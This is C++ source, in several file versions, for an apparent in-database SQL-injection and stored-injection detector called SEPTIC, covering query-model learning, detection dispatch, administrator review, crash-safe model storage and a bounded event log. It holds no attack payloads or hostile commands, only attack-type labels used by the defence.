  e.query_id = entry->query_id;
  e.query = entry->sample_query;
  log_.record(std::move(e));
  return true;
}

bool Septic::reject_model(uint64_t review_id) {
  auto entry = review_.take(review_id);
  if (!entry) return false;
  store_.remove(entry->query_id, entry->model);
  Event e;
  e.kind = EventKind::kModelRejected;
  e.query_id = entry->query_id;
  e.query = entry->sample_query;
  log_.record(std::move(e));
  return true;
}

SepticStats Septic::stats() const {
  SepticStats out;
  out.queries_seen = stats_.queries_seen.load(std::memory_order_relaxed);
  out.models_created = stats_.models_created.load(std::memory_order_relaxed);
  out.sqli_detected = stats_.sqli_detected.load(std::memory_order_relaxed);
  out.stored_detected = stats_.stored_detected.load(std::memory_order_relaxed);
  out.dropped = stats_.dropped.load(std::memory_order_relaxed);
  out.txn_blocked_stmts =
      stats_.txn_blocked_stmts.load(std::memory_order_relaxed);
  out.septic_internal_errors =
      stats_.septic_internal_errors.load(std::memory_order_relaxed);
  out.events_dropped = log_.dropped_events();
  if (std::shared_ptr<const engine::QueryDigestCache> cache =
          digest_cache_.load(std::memory_order_acquire)) {
    engine::DigestCacheStats cs = cache->stats();
    out.cache_hits = cs.hits;
    out.cache_misses = cs.misses;
    out.cache_insertions = cs.insertions;
    out.cache_evictions = cs.evictions;
    out.cache_invalidations = cs.invalidations;
    out.cache_entries = cs.entries;
    out.cache_bytes = cs.bytes_in_use;
  }
  return out;
}

void Septic::train_on(const engine::QueryEvent& event, const QueryId& id,
                      const Config& cfg) {
  QueryModel qm = make_query_model(event.stack);
  bool added = store_.add(id.composed(), qm);
  // Test hook: widen the window between the store update and the snapshot
  // mode decision so the mode-flip regression test can race a set_mode()
  // here deterministically.
  SEPTIC_FAILPOINT_HOOK("septic.train_on.stall") {
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  if (added && cfg.mode != Mode::kTraining) {
    // Incremental learning: provisionally trusted, queued for the admin.
    // The decision uses the cfg snapshot, not the live mode: the query ran
    // under this mode, so its model is routed accordingly.
    review_.enqueue(id.composed(), qm, event.query.text);
  }
  if (added) {
    stats_.models_created.fetch_add(1, std::memory_order_relaxed);
    Event e;
    e.kind = EventKind::kModelCreated;
    e.query = event.query.text;
    e.query_id = id.composed();
    e.model = qm.serialize();
    log_.record(std::move(e));
  }
}

engine::InterceptDecision Septic::on_query(const engine::QueryEvent& event) {
  std::shared_ptr<const Config> cfg = config_snapshot();
  stats_.queries_seen.fetch_add(1, std::memory_order_relaxed);

  // The fail-policy boundary: nothing SEPTIC does internally — detector,
  // plugins, model store, ID generation — may propagate an exception into
  // the engine. An in-path defense that can crash the DBMS is worse than
  // no defense; cfg->fail_policy decides what happens to the query instead.
  // Generation tags for the digest cache, captured BEFORE the model
  // lookup inside dispatch: a store mutation racing this query's verdict
  // always makes the cached entry stale (conservative by construction).
  const engine::InterceptorGenerations gens{cfg->epoch, store_.generation()};

  try {
    SEPTIC_FAILPOINT("septic.dispatch.throw");
    QueryId id = IdGenerator::generate(event.query);
    engine::InterceptDecision d = dispatch(event, *cfg, id);
    if (d.cacheable) d.generations = gens;
    return d;
  } catch (const std::exception& ex) {
    stats_.septic_internal_errors.fetch_add(1, std::memory_order_relaxed);
    try {
      Event e;
      e.kind = EventKind::kInternalError;
      e.query = event.query.text;
      e.detail = std::string(ex.what()) +
                 " (policy: " + fail_policy_name(cfg->fail_policy) + ")";
      log_.record(std::move(e));
    } catch (...) {
      // Even a broken logger must not breach the boundary.
    }
    if (cfg->fail_policy == FailPolicy::kFailOpen) {
      return engine::InterceptDecision::proceed();
    }
    return engine::InterceptDecision::reject(
        "SEPTIC: internal error; query dropped (fail-closed)");
  }
}

engine::InterceptDecision Septic::dispatch(const engine::QueryEvent& event,
                                           const Config& cfg,
                                           const QueryId& id) {
  // A benign allow-verdict is replayable for byte-identical statements:
  // the whole pipeline is deterministic in (bytes, config epoch, model
  // generation), and the engine revalidates the latter two on every hit.
  // Attack verdicts are NEVER cacheable — each occurrence must log and
  // count individually (and blocked queries must stay observable).
  auto cacheable_allow = [&id] {
    engine::InterceptDecision d;
    d.cacheable = true;
    d.cache_payload =
        std::make_shared<const VerdictPayload>(VerdictPayload{id.composed()});
    return d;
  };

  if (cfg.mode == Mode::kTraining) {
    train_on(event, id, cfg);
    return cacheable_allow();
  }

  // ---- normal mode (prevention or detection) ----
  bool attack = false;
  std::string attack_type;

  // Model lookup always happens (again: NN baseline cost). The snapshot
  // pins the ID's immutable model set without copying a single model.
  QmStore::ModelSet models = store_.snapshot(id.composed());

  if (!models) {
    // Unknown query. Incremental learning: create + store + log, and let
    // the query run; the administrator later classifies the new model
    // (paper Section II-E). Strict deployments may disable this.
    if (cfg.incremental_learning) {
      train_on(event, id, cfg);
    } else if (cfg.detect_sqli) {
      attack = true;
      attack_type = "SQLI";
      Event e;
      e.kind = EventKind::kSqliDetected;
      e.query = event.query.text;
      e.query_id = id.composed();
      e.attack_type = "SQLI";
      e.detail = "no query model for ID (incremental learning disabled)";
      log_.record(std::move(e));
      stats_.sqli_detected.fetch_add(1, std::memory_order_relaxed);
    }
  } else if (cfg.detect_sqli) {
    SEPTIC_FAILPOINT("septic.detector.throw");
    SqliVerdict verdict =
        detect_sqli(event.stack, *models, cfg.strict_numeric_types);
    if (verdict.attack) {
      attack = true;
      attack_type = "SQLI";
      Event e;
      e.kind = EventKind::kSqliDetected;
      e.query = event.query.text;
      e.query_id = id.composed();
      e.detection_step = static_cast<int>(verdict.step);
      e.attack_type = "SQLI";
      e.detail = verdict.detail;
      // Log the (first) model the query was compared against.
      e.model = models->front().serialize();
      log_.record(std::move(e));
      stats_.sqli_detected.fetch_add(1, std::memory_order_relaxed);
    }
  }

  if (!attack && cfg.detect_stored) {
    SEPTIC_FAILPOINT("septic.plugin.throw");
    StoredVerdict sv = detect_stored_injection(event.query.statement, plugins_);
    if (sv.attack) {
      attack = true;
      attack_type = sv.plugin;
      Event e;
      e.kind = EventKind::kStoredDetected;
      e.query = event.query.text;
      e.query_id = id.composed();
      e.attack_type = sv.plugin;
      e.detail = sv.detail;
      log_.record(std::move(e));
      stats_.stored_detected.fetch_add(1, std::memory_order_relaxed);
    }
  }

  if (!attack) {
    if (cfg.log_processed_queries) {
      Event e;
      e.kind = EventKind::kQueryProcessed;
      e.query_id = id.composed();
      log_.record(std::move(e));
    }
    return cacheable_allow();
  }

  if (cfg.mode == Mode::kPrevention) {
    Event e;
    e.kind = EventKind::kQueryDropped;
    e.query = event.query.text;
    e.query_id = id.composed();
    e.attack_type = attack_type;
    log_.record(std::move(e));
    stats_.dropped.fetch_add(1, std::memory_order_relaxed);
    if (event.in_transaction) {
      stats_.txn_blocked_stmts.fetch_add(1, std::memory_order_relaxed);
    }
    engine::InterceptDecision d = engine::InterceptDecision::reject(
        "SEPTIC: " + attack_type + " attack detected; query dropped");
    // Containment policy: a blocked statement inside an open transaction
    // optionally takes the whole transaction down with it.
    d.abort_txn = cfg.abort_txn_on_block;
    return d;
  }
  // Detection mode: attack logged above, query executes.
  return engine::InterceptDecision::proceed();
}

}  // namespace septic::core

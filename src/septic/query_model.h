// Query structures (QS) and query models (QM), paper Section II-C1.
//
// The QS is the engine's item stack verbatim. The QM is derived from a QS
// by replacing the DATA of every <DATA_TYPE, DATA> node with the special
// value ⊥ (bottom), keeping element nodes intact — Figure 2(b).
#pragma once

#include <string>
#include <string_view>

#include "sqlcore/item.h"

namespace septic::core {

/// The placeholder shown for blanked data in query models (the paper's ⊥).
inline constexpr const char* kBottom = "\xe2\x8a\xa5";  // UTF-8 ⊥

/// A query model: same node layout as a QS but with data blanked.
struct QueryModel {
  sql::StatementKind kind = sql::StatementKind::kSelect;
  std::vector<sql::ItemNode> nodes;

  bool operator==(const QueryModel&) const = default;

  /// Paper-style top-down rendering (Figure 2(b)).
  std::string to_string() const;

  /// One-line serialization for the persistent QM store.
  std::string serialize() const;
  static bool deserialize(std::string_view line, QueryModel& out);
};

/// Build the model for a query structure: every data node's DATA -> ⊥.
QueryModel make_query_model(const sql::ItemStack& qs);

}  // namespace septic::core

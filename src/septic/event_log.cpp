#include "septic/event_log.h"

#include "common/string_util.h"

namespace septic::core {

const char* event_kind_name(EventKind k) {
  switch (k) {
    case EventKind::kModeChanged: return "MODE_CHANGED";
    case EventKind::kModelCreated: return "MODEL_CREATED";
    case EventKind::kModelLoaded: return "MODEL_LOADED";
    case EventKind::kQueryProcessed: return "QUERY_PROCESSED";
    case EventKind::kSqliDetected: return "SQLI_DETECTED";
    case EventKind::kStoredDetected: return "STORED_DETECTED";
    case EventKind::kQueryDropped: return "QUERY_DROPPED";
    case EventKind::kModelApproved: return "MODEL_APPROVED";
    case EventKind::kModelRejected: return "MODEL_REJECTED";
  }
  return "?";
}

void EventLog::record(Event e) {
  std::lock_guard lock(mu_);
  e.seq = next_seq_++;
  if (sink_) sink_(e);
  if (file_.is_open()) file_ << format(e) << '\n' << std::flush;
  events_.push_back(std::move(e));
}

void EventLog::tee_to_file(const std::string& path) {
  std::lock_guard lock(mu_);
  if (file_.is_open()) file_.close();
  if (path.empty()) return;
  file_.open(path, std::ios::app);
  if (!file_) {
    throw std::runtime_error("cannot open event log file: " + path);
  }
}

std::vector<Event> EventLog::events() const {
  std::lock_guard lock(mu_);
  return events_;
}

std::vector<Event> EventLog::events_of(EventKind kind) const {
  std::lock_guard lock(mu_);
  std::vector<Event> out;
  for (const auto& e : events_) {
    if (e.kind == kind) out.push_back(e);
  }
  return out;
}

size_t EventLog::count_of(EventKind kind) const {
  std::lock_guard lock(mu_);
  size_t n = 0;
  for (const auto& e : events_) {
    if (e.kind == kind) ++n;
  }
  return n;
}

size_t EventLog::size() const {
  std::lock_guard lock(mu_);
  return events_.size();
}

void EventLog::clear() {
  std::lock_guard lock(mu_);
  events_.clear();
}

void EventLog::set_sink(std::function<void(const Event&)> sink) {
  std::lock_guard lock(mu_);
  sink_ = std::move(sink);
}

std::string EventLog::format(const Event& e) {
  std::string out = "[" + std::to_string(e.seq) + "] ";
  out += event_kind_name(e.kind);
  if (!e.attack_type.empty()) out += " type=" + e.attack_type;
  if (e.detection_step != 0) {
    out += " step=" + std::to_string(e.detection_step);
    out += e.detection_step == 1 ? "(structural)" : "(syntactic)";
  }
  if (!e.query_id.empty()) out += " id=" + e.query_id;
  if (!e.query.empty()) out += " query=\"" + common::escape_for_log(e.query) + "\"";
  if (!e.detail.empty()) out += " detail=\"" + e.detail + "\"";
  return out;
}

}  // namespace septic::core

#include "septic/event_log.h"

#include "common/failpoint.h"
#include "common/log.h"
#include "common/string_util.h"

namespace septic::core {

const char* event_kind_name(EventKind k) {
  switch (k) {
    case EventKind::kModeChanged: return "MODE_CHANGED";
    case EventKind::kModelCreated: return "MODEL_CREATED";
    case EventKind::kModelLoaded: return "MODEL_LOADED";
    case EventKind::kQueryProcessed: return "QUERY_PROCESSED";
    case EventKind::kSqliDetected: return "SQLI_DETECTED";
    case EventKind::kStoredDetected: return "STORED_DETECTED";
    case EventKind::kQueryDropped: return "QUERY_DROPPED";
    case EventKind::kModelApproved: return "MODEL_APPROVED";
    case EventKind::kModelRejected: return "MODEL_REJECTED";
    case EventKind::kInternalError: return "INTERNAL_ERROR";
  }
  return "?";
}

void EventLog::record(Event e) {
  std::lock_guard lock(mu_);
  e.seq = next_seq_++;
  if (sink_) sink_(e);
  if (file_.is_open()) {
    file_ << format(e) << '\n' << std::flush;
    bool failed = !file_.good();
    SEPTIC_FAILPOINT_HOOK("event_log.tee.write_error") failed = true;
    if (failed) {
      // A dead tee (disk full, volume gone) must not take the query path
      // down with it: disable file logging, keep the in-memory register.
      file_.close();
      ++file_errors_;
      common::log_warn("event log: tee write failed; file logging disabled");
    }
  }
  events_.push_back(std::move(e));
  while (capacity_ != 0 && events_.size() > capacity_) {
    events_.pop_front();
    ++dropped_;
  }
}

void EventLog::tee_to_file(const std::string& path) {
  std::lock_guard lock(mu_);
  if (file_.is_open()) file_.close();
  if (path.empty()) return;
  file_.open(path, std::ios::app);
  if (!file_) {
    ++file_errors_;
    throw std::runtime_error("cannot open event log file: " + path);
  }
}

std::vector<Event> EventLog::events() const {
  std::lock_guard lock(mu_);
  return {events_.begin(), events_.end()};
}

std::vector<Event> EventLog::events_of(EventKind kind) const {
  std::lock_guard lock(mu_);
  std::vector<Event> out;
  for (const auto& e : events_) {
    if (e.kind == kind) out.push_back(e);
  }
  return out;
}

size_t EventLog::count_of(EventKind kind) const {
  std::lock_guard lock(mu_);
  size_t n = 0;
  for (const auto& e : events_) {
    if (e.kind == kind) ++n;
  }
  return n;
}

size_t EventLog::size() const {
  std::lock_guard lock(mu_);
  return events_.size();
}

void EventLog::clear() {
  std::lock_guard lock(mu_);
  events_.clear();
}

void EventLog::set_capacity(size_t cap) {
  std::lock_guard lock(mu_);
  capacity_ = cap;
  while (capacity_ != 0 && events_.size() > capacity_) {
    events_.pop_front();
    ++dropped_;
  }
}

size_t EventLog::capacity() const {
  std::lock_guard lock(mu_);
  return capacity_;
}

uint64_t EventLog::dropped_events() const {
  std::lock_guard lock(mu_);
  return dropped_;
}

uint64_t EventLog::file_errors() const {
  std::lock_guard lock(mu_);
  return file_errors_;
}

void EventLog::set_sink(std::function<void(const Event&)> sink) {
  std::lock_guard lock(mu_);
  sink_ = std::move(sink);
}

std::string EventLog::format(const Event& e) {
  std::string out = "[" + std::to_string(e.seq) + "] ";
  out += event_kind_name(e.kind);
  if (!e.attack_type.empty()) out += " type=" + e.attack_type;
  if (e.detection_step != 0) {
    out += " step=" + std::to_string(e.detection_step);
    out += e.detection_step == 1 ? "(structural)" : "(syntactic)";
  }
  if (!e.query_id.empty()) out += " id=" + e.query_id;
  if (!e.query.empty()) out += " query=\"" + common::escape_for_log(e.query) + "\"";
  if (!e.detail.empty()) out += " detail=\"" + e.detail + "\"";
  return out;
}

}  // namespace septic::core

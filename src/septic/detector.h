// The attack detector module, paper Section II-C3.
//
// SQLI detection compares the query structure (QS) with the learned query
// model(s) in two steps:
//   step 1 (structural): equal number of nodes;
//   step 2 (syntactic):  node-by-node element equality — types must match,
//                        element nodes must also match on their data
//                        (field/function/table names), data nodes match on
//                        DATA_TYPE only (their DATA is ⊥ in the model).
// A query is an attack if it matches no stored model for its ID.
//
// Stored-injection detection (INSERT/UPDATE only) runs the plugin battery
// over user-supplied string values: a lightweight character filter first,
// then the plugin's precise validation.
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "septic/plugins/plugin.h"
#include "septic/query_model.h"
#include "sqlcore/item.h"

namespace septic::core {

enum class SqliStep {
  kNone = 0,
  kStructural = 1,  // node-count mismatch (paper: "structural" attacks)
  kSyntactic = 2,   // node mismatch at equal count ("syntax mimicry")
};

struct SqliVerdict {
  bool attack = false;
  SqliStep step = SqliStep::kNone;
  /// Human-readable mismatch description, e.g.
  /// "node 4: QS <INT_ITEM,1> vs QM <FIELD_ITEM,creditCard>".
  std::string detail;
};

/// Compare one QS against one QM. Pure function.
///
/// `strict_numeric_types`: when false (default), INT_ITEM and DECIMAL_ITEM
/// data nodes are one numeric category — a form field legitimately yields
/// "500" one day and "99.5" the next, and neither can smuggle structure.
/// When true, the exact data type must match (the original paper's
/// stricter reading); the ablation bench quantifies the false-positive
/// cost of that choice.
SqliVerdict compare_qs_qm(const sql::ItemStack& qs, const QueryModel& qm,
                          bool strict_numeric_types = false);

/// Compare against a model set: benign if ANY model matches. When all fail,
/// the verdict reports the step of the *closest* model (one with equal node
/// count if any — syntactic; otherwise structural).
SqliVerdict detect_sqli(const sql::ItemStack& qs,
                        const std::vector<QueryModel>& models,
                        bool strict_numeric_types = false);

struct StoredVerdict {
  bool attack = false;
  std::string plugin;  // which plugin fired (XSS, RFI/LFI, OSCI, RCE)
  std::string detail;
  std::string offending_value;
};

/// Run the plugin battery over the data values of an INSERT/UPDATE.
StoredVerdict detect_stored_injection(
    const sql::Statement& stmt,
    const std::vector<std::unique_ptr<StoredInjectionPlugin>>& plugins);

/// The prepared-statement counterpart: run the plugin battery over the
/// parameter values bound at EXEC time. The structural (QM) verdict of a
/// prepared statement is computed once from its template, but stored
/// injection is a property of the DATA, so every bind gets this — cheap,
/// quick_check-gated — value scan. `kind` is the template's statement
/// kind; like detect_stored_injection, only INSERT/UPDATE are inspected.
StoredVerdict detect_stored_params(
    sql::StatementKind kind, const std::vector<sql::Value>& params,
    const std::vector<std::unique_ptr<StoredInjectionPlugin>>& plugins);

}  // namespace septic::core

// Administrator review queue for incrementally learned query models
// (paper Section II-E): models created in normal mode — i.e. for query IDs
// SEPTIC had never seen — are provisionally trusted but queued here, and
// "later, the programmer/administrator will have to decide if the query
// model comes from a malicious or a benign query". Approving keeps the
// model; rejecting removes it from the store (subsequent occurrences of
// that query shape are then treated as attacks in strict deployments, or
// re-learned and re-queued otherwise).
#pragma once

#include <cstdint>
#include <mutex>
#include <optional>
#include <string>
#include <vector>

#include "septic/query_model.h"

namespace septic::core {

struct PendingModel {
  uint64_t review_id = 0;     // handle for approve/reject
  std::string query_id;       // composed SEPTIC query identifier
  QueryModel model;
  std::string sample_query;   // the query text that created the model
};

class ReviewQueue {
 public:
  /// Queue a model learned incrementally; returns its review id.
  uint64_t enqueue(std::string query_id, QueryModel model,
                   std::string sample_query);

  /// All models awaiting a decision.
  std::vector<PendingModel> pending() const;
  size_t pending_count() const;

  /// Fetch one entry by review id.
  std::optional<PendingModel> find(uint64_t review_id) const;

  /// Remove an entry from the queue (the caller decides what that means
  /// for the model store). Returns the entry, or nullopt if unknown.
  std::optional<PendingModel> take(uint64_t review_id);

  void clear();

 private:
  mutable std::mutex mu_;
  std::vector<PendingModel> entries_;
  uint64_t next_id_ = 1;
};

}  // namespace septic::core

// The "QM learned" store (Figure 1): learned query models keyed by query
// identifier. Each ID maps to a *set* of models — internal IDs may collide
// across call sites issuing the same command/table/field shape, and a
// benign query matches if ANY stored model accepts it.
//
// Models live in memory and can be persisted, mirroring the demo's restart
// sequence: train, persist, restart in prevention mode, reload. The
// persistent store is the crown jewels of a prevention deployment — losing
// it silently degrades prevention into re-learning attacker-shaped models —
// so persistence is crash-safe:
//
//   - save_to_file writes temp + fsync + atomic rename (common/atomic_file):
//     a crash at any point leaves the old or the new store, never a torn one.
//   - The on-disk format is versioned ("SEPTICQM 2" header) with a CRC-32
//     per record line: "crc<TAB>id<TAB>model".
//   - load_from_file is a salvage loader: it restores every CRC-valid
//     record, skips corrupt/truncated ones, and reports exactly what
//     happened instead of throwing the whole store away. Headerless legacy
//     v1 files ("id<TAB>model" lines) still load.
#pragma once

#include <mutex>
#include <string>
#include <unordered_map>
#include <vector>

#include "septic/query_model.h"

namespace septic::core {

/// What a (salvage) load recovered. `clean()` means every record parsed
/// and passed its integrity check.
struct QmLoadReport {
  int version = 0;      // 1 = legacy headerless, 2 = CRC-checked
  size_t loaded = 0;    // records restored into the store
  size_t skipped = 0;   // corrupt / CRC-failed / truncated lines skipped
  std::string detail;   // human-readable summary of the first few skips

  bool clean() const { return skipped == 0; }
};

class QmStore {
 public:
  /// Add a model under an ID; deduplicates identical models. Returns true
  /// when the model was new.
  bool add(const std::string& id, const QueryModel& qm);

  /// Models learned for an ID (empty vector when unknown).
  std::vector<QueryModel> lookup(const std::string& id) const;

  /// Remove one model from an ID's set (admin rejection); drops the ID
  /// entirely when its set becomes empty. Returns false when absent.
  bool remove(const std::string& id, const QueryModel& qm);

  bool contains(const std::string& id) const;

  size_t id_count() const;
  size_t model_count() const;
  void clear();

  /// All IDs with at least one model, sorted (stable for tests/tools).
  std::vector<std::string> ids() const;

  /// Crash-safe persistence in the current (v2, CRC-checked) format.
  /// Throws std::runtime_error on I/O failure; the previous file, if any,
  /// survives any failure intact.
  void save_to_file(const std::string& path) const;

  /// Salvage load: replaces the in-memory store with every record that can
  /// be recovered from the file (v2 or legacy v1), skipping corrupt lines.
  /// Throws std::runtime_error only when the file cannot be opened at all
  /// or carries an unknown format version.
  QmLoadReport load_from_file(const std::string& path);

  /// Current-format serialization (header + CRC-per-line).
  std::string serialize_v2() const;
  /// Salvage deserialize (v2 or legacy v1); replaces current contents.
  QmLoadReport deserialize_salvage(std::string_view data);

  /// Legacy v1 text form (no header, no CRC) — kept for in-memory
  /// round-trips and old fixtures. deserialize throws std::runtime_error
  /// on the first malformed line (strict).
  std::string serialize() const;
  void deserialize(std::string_view data);

 private:
  mutable std::mutex mu_;
  std::unordered_map<std::string, std::vector<QueryModel>> models_;
};

}  // namespace septic::core

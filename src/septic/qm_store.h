// The "QM learned" store (Figure 1): learned query models keyed by query
// identifier. Each ID maps to a *set* of models — internal IDs may collide
// across call sites issuing the same command/table/field shape, and a
// benign query matches if ANY stored model accepts it.
//
// Models live in memory and can be persisted to a text file (one
// "id<TAB>serialized-model" line per model), mirroring the demo's restart
// sequence: train, persist, restart in prevention mode, reload.
#pragma once

#include <mutex>
#include <string>
#include <unordered_map>
#include <vector>

#include "septic/query_model.h"

namespace septic::core {

class QmStore {
 public:
  /// Add a model under an ID; deduplicates identical models. Returns true
  /// when the model was new.
  bool add(const std::string& id, const QueryModel& qm);

  /// Models learned for an ID (empty vector when unknown).
  std::vector<QueryModel> lookup(const std::string& id) const;

  /// Remove one model from an ID's set (admin rejection); drops the ID
  /// entirely when its set becomes empty. Returns false when absent.
  bool remove(const std::string& id, const QueryModel& qm);

  bool contains(const std::string& id) const;

  size_t id_count() const;
  size_t model_count() const;
  void clear();

  /// Persistence (throws std::runtime_error on I/O or parse failure).
  void save_to_file(const std::string& path) const;
  void load_from_file(const std::string& path);
  std::string serialize() const;
  void deserialize(std::string_view data);

 private:
  mutable std::mutex mu_;
  std::unordered_map<std::string, std::vector<QueryModel>> models_;
};

}  // namespace septic::core

// The "QM learned" store (Figure 1): learned query models keyed by query
// identifier. Each ID maps to a *set* of models — internal IDs may collide
// across call sites issuing the same command/table/field shape, and a
// benign query matches if ANY stored model accepts it.
//
// Concurrency: the store sits on the per-query fast path of every
// prevention/detection-mode query, so lookups must not serialize the whole
// server behind one mutex (the paper's Fig. 5 "~2% overhead" claim is only
// reachable if detection reads scale with client count). The map is split
// into lock-striped shards, each guarded by its own std::shared_mutex:
// readers of different IDs proceed in parallel, readers of the same shard
// share the lock, and only writers (training / admin rejection) take a
// shard exclusively. The model set for an ID is an immutable
// shared_ptr<const vector> replaced copy-on-write by writers, so a reader
// either borrows it in place under the shard lock (lookup_apply) or pins
// it with one refcount bump (snapshot) — never by copying models.
//
// Cross-shard operations (counts, serialization, clear) lock shards one at
// a time; they see a consistent per-shard state but not a global atomic
// snapshot. That is the same guarantee the old single-mutex store gave a
// saver racing a trainer at the whole-store level, and persistence in a
// live deployment happens at quiesce points (mode switches) anyway.
//
// Models live in memory and can be persisted, mirroring the demo's restart
// sequence: train, persist, restart in prevention mode, reload. The
// persistent store is the crown jewels of a prevention deployment — losing
// it silently degrades prevention into re-learning attacker-shaped models —
// so persistence is crash-safe:
//
//   - save_to_file writes temp + fsync + atomic rename (common/atomic_file):
//     a crash at any point leaves the old or the new store, never a torn one.
//   - The on-disk format is versioned ("SEPTICQM 2" header) with a CRC-32
//     per record line: "crc<TAB>id<TAB>model".
//   - load_from_file is a salvage loader: it restores every CRC-valid
//     record, skips corrupt/truncated ones, and reports exactly what
//     happened instead of throwing the whole store away. Headerless legacy
//     v1 files ("id<TAB>model" lines) still load.
#pragma once

#include <atomic>
#include <memory>
#include <shared_mutex>
#include <string>
#include <unordered_map>
#include <vector>

#include "common/thread_annotations.h"
#include "septic/query_model.h"

namespace septic::core {

/// What a (salvage) load recovered. `clean()` means every record parsed
/// and passed its integrity check.
struct QmLoadReport {
  int version = 0;      // 1 = legacy headerless, 2 = CRC-checked
  size_t loaded = 0;    // records restored into the store
  size_t skipped = 0;   // corrupt / CRC-failed / truncated lines skipped
  std::string detail;   // human-readable summary of the first few skips

  bool clean() const { return skipped == 0; }
};

class QmStore {
 public:
  /// An ID's immutable model set, pinned against concurrent rewrites.
  using ModelSet = std::shared_ptr<const std::vector<QueryModel>>;

  /// Lock stripes. More shards = less reader/writer collision at the cost
  /// of a few hundred bytes each; 16 comfortably covers the 1–16 client
  /// range the throughput bench exercises (see HACKING.md for tuning).
  static constexpr size_t kDefaultShards = 16;

  explicit QmStore(size_t shards = kDefaultShards);

  /// Add a model under an ID; deduplicates identical models. Returns true
  /// when the model was new.
  bool add(const std::string& id, const QueryModel& qm);

  /// Copy-free read: the ID's current model set pinned by refcount
  /// (nullptr when unknown). The set is immutable — concurrent training
  /// replaces the vector rather than mutating it, so the caller may read
  /// without any lock for as long as it holds the pointer.
  ModelSet snapshot(const std::string& id) const;

  /// Copy-free read in place: invoke `fn(const std::vector<QueryModel>&)`
  /// under the shard's shared (reader) lock. Returns false (fn not called)
  /// when the ID is unknown. Keep fn short: it blocks writers to one shard.
  template <typename Fn>
  bool lookup_apply(const std::string& id, Fn&& fn) const {
    const Shard& s = shard_for(id);
    std::shared_lock lock(s.mu);
    auto it = s.models.find(id);
    if (it == s.models.end()) return false;
    fn(*it->second);
    return true;
  }

  /// Remove one model from an ID's set (admin rejection); drops the ID
  /// entirely when its set becomes empty. Returns false when absent.
  bool remove(const std::string& id, const QueryModel& qm);

  bool contains(const std::string& id) const;

  size_t id_count() const;
  size_t model_count() const;
  void clear();

  /// Monotonic mutation counter: bumped whenever the set of stored models
  /// actually changes (add of a new model, remove, clear, bulk load). The
  /// engine's digest cache tags entries with this value — a cached verdict
  /// is replayed only while the store is provably unchanged since the
  /// verdict was computed, so a model removal (admin rejection) or new
  /// training can never be laundered through a stale cached allow.
  uint64_t generation() const {
    return generation_.load(std::memory_order_acquire);
  }

  size_t shard_count() const { return shards_.size(); }

  /// All IDs with at least one model, sorted (stable for tests/tools).
  std::vector<std::string> ids() const;

  /// Crash-safe persistence in the current (v2, CRC-checked) format.
  /// Throws std::runtime_error on I/O failure; the previous file, if any,
  /// survives any failure intact.
  void save_to_file(const std::string& path) const;

  /// Salvage load: replaces the in-memory store with every record that can
  /// be recovered from the file (v2 or legacy v1), skipping corrupt lines.
  /// Throws std::runtime_error only when the file cannot be opened at all
  /// or carries an unknown format version.
  QmLoadReport load_from_file(const std::string& path);

  /// Current-format serialization (header + CRC-per-line).
  std::string serialize_v2() const;
  /// Salvage deserialize (v2 or legacy v1); replaces current contents.
  QmLoadReport deserialize_salvage(std::string_view data);

  /// Legacy v1 text form (no header, no CRC) — kept for in-memory
  /// round-trips and old fixtures. deserialize throws std::runtime_error
  /// on the first malformed line (strict).
  std::string serialize() const;
  void deserialize(std::string_view data);

 private:
  struct Shard {
    mutable std::shared_mutex mu;
    std::unordered_map<std::string, ModelSet> models SEPTIC_GUARDED_BY(mu);
  };

  Shard& shard_for(const std::string& id) {
    return shards_[std::hash<std::string>{}(id) & shard_mask_];
  }
  const Shard& shard_for(const std::string& id) const {
    return shards_[std::hash<std::string>{}(id) & shard_mask_];
  }

  /// Insert without dedup bookkeeping (bulk loads own the whole store).
  void add_loaded(std::string id, QueryModel qm);

  void bump_generation() {
    generation_.fetch_add(1, std::memory_order_release);
  }

  std::vector<Shard> shards_;
  size_t shard_mask_ = 0;
  std::atomic<uint64_t> generation_{0};
};

}  // namespace septic::core

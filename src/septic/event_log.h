// The logger module (paper Section II-C4): SEPTIC's register of events —
// new query models, query processing, attacks detected — backing the demo's
// "SEPTIC events" display. Structured and queryable (the detection benches
// and tests filter it), with optional append-to-file.
//
// Robustness properties (week-long prevention runs must not take SEPTIC
// down): the in-memory register is a bounded ring — past the capacity the
// oldest events are dropped and counted, never OOM — and a failing tee file
// (disk full, yanked volume) disables file logging and counts the error
// instead of throwing out of record() into the query path.
#pragma once

#include <cstdint>
#include <deque>
#include <fstream>
#include <functional>
#include <mutex>
#include <string>
#include <vector>

#include "common/thread_annotations.h"

namespace septic::core {

enum class EventKind {
  kModeChanged,
  kModelCreated,      // new QM learned (training or incremental)
  kModelLoaded,       // models restored from the persistent store
  kQueryProcessed,    // a known query passed all checks
  kSqliDetected,
  kStoredDetected,
  kQueryDropped,      // prevention mode stopped the query
  kModelApproved,     // admin approved an incrementally learned model
  kModelRejected,     // admin rejected one; it is removed from the store
  kInternalError,     // SEPTIC itself failed; fail policy decided the query
};

const char* event_kind_name(EventKind k);

struct Event {
  uint64_t seq = 0;
  EventKind kind = EventKind::kQueryProcessed;
  std::string query;       // query text as received by the DBMS
  std::string query_id;    // composed identifier
  std::string model;       // serialized or pretty QM where relevant
  int detection_step = 0;  // 1 = structural, 2 = syntactic (SQLI only)
  std::string attack_type; // "SQLI", "XSS", "RFI", "LFI", "OSCI", "RCE"
  std::string detail;
};

class EventLog {
 public:
  /// In-memory ring capacity (events kept before the oldest are dropped).
  static constexpr size_t kDefaultCapacity = 64 * 1024;

  void record(Event e);

  /// Snapshot of the retained events (copy; the log keeps growing).
  std::vector<Event> events() const;

  /// Events of one kind.
  std::vector<Event> events_of(EventKind kind) const;
  size_t count_of(EventKind kind) const;
  size_t size() const;
  void clear();

  /// Resize the ring (0 = unbounded). Shrinking drops the oldest events
  /// immediately (they count toward dropped_events).
  void set_capacity(size_t cap);
  size_t capacity() const;

  /// Events evicted from the ring because it was full.
  uint64_t dropped_events() const;
  /// Tee-file write/open failures survived (file logging is disabled after
  /// the first write failure).
  uint64_t file_errors() const;

  /// Optional live sink (e.g. the demo's events display). Called with the
  /// lock held; keep callbacks fast.
  void set_sink(std::function<void(const Event&)> sink);

  /// Append every event (formatted, one line each) to a file as well —
  /// the persistent "register of events" of the demo setup. Append-only:
  /// an existing register is never truncated. Throws std::runtime_error
  /// when the file cannot be opened; pass an empty path to stop file
  /// logging. Later write failures do NOT throw from record(): they
  /// disable the tee and increment file_errors().
  void tee_to_file(const std::string& path);

  /// Render one event as a log line.
  static std::string format(const Event& e);

 private:
